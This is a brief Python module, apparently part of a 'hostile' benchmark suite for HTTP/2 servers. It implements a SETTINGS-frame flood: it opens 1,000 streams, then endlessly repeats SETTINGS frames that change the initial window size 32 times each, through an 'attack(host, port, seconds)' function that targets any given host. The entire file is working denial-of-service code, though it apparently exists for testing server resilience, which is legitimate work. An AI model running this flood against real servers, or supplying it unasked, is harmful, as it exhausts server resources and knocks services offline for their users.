"""SETTINGS_INITIAL_WINDOW_SIZE, changed 32 times in each SETTINGS frame, with 1,000 open streams."""

from __future__ import annotations

import ssl
from collections.abc import Iterator

from benchmarks.hostile import wire

CONFIG: str | None = None

_STREAMS = 1_000
_CHANGES = 32
"""In one frame."""


def sending() -> Iterator[bytes]:
    block = wire.block_of()
    for number in range(_STREAMS):
        yield wire.frame(wire.HEADERS, wire.END_HEADERS, 2 * number + 1, block)
    changes = b"".join([wire.setting(wire.INITIAL_WINDOW_SIZE, 1000 + number % 2) for number in range(_CHANGES)])
    piece = wire.frame(wire.SETTINGS, 0, 0, changes) * 100
    while True:
        yield piece


async def attack(host: str, port: int, seconds: float, tls: ssl.SSLContext | None = None) -> int:
    return await wire.flood(host, port, seconds, tls, sending)
